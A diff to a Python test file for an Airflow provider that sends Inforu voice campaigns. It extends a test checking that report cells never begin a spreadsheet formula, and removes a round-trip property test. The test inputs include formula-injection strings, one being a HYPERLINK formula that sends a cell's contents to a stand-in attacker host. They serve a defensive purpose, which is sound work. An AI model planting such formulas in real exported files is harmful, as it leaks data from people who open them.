@@ -6,18 +6,27 @@ from types import SimpleNamespace
 
 import pytest
 from airflow.sdk import DAG
-from hypothesis import given
-from hypothesis import strategies as st
 
 from airflow_provider_inforu.operators.voice import InforuSendExistingCampaignOperator
 from airflow_provider_inforu.sending.dispatch import FIRST
 from airflow_provider_inforu.sending.in_doubt import find_accepted
-from airflow_provider_inforu.sending.report_file import COLUMNS, _as_cell, _from_cell, write_report
+from airflow_provider_inforu.sending.report_file import COLUMNS, write_report
 from tests.receiver import end_of_call
 
 
 @pytest.mark.parametrize(
-    "text", ["=1+1", "+1-1", "-1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A2)']
+    "text",
+    [
+        "=1+1",
+        "+1-1",
+        "-1",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "＝1+1",
+        '=HYPERLINK("http://evil.example/?"&A2)',
+    ],
 )
 def test_no_cell_of_a_report_begins_a_formula(tmp_path, text):
     row = {
@@ -32,11 +41,6 @@ def test_no_cell_of_a_report_begins_a_formula(tmp_path, text):
     assert {cells[name] for name in ("key", "outcome", "digit", "reason")} == {f"'{text}"}
     assert cells["seconds"] == "8"
     assert json.loads((tmp_path / "report.ndjson").read_text("utf-8"))["key"] == text
-
-
-@given(st.text(alphabet="'=+-@\t\rab", max_size=6))
-def test_a_cell_is_read_back_as_what_it_was(text):
-    assert _from_cell(_as_cell(text)) == text
 
 
 def test_a_forged_push_chooses_no_campaign_for_the_batches_after_the_first():
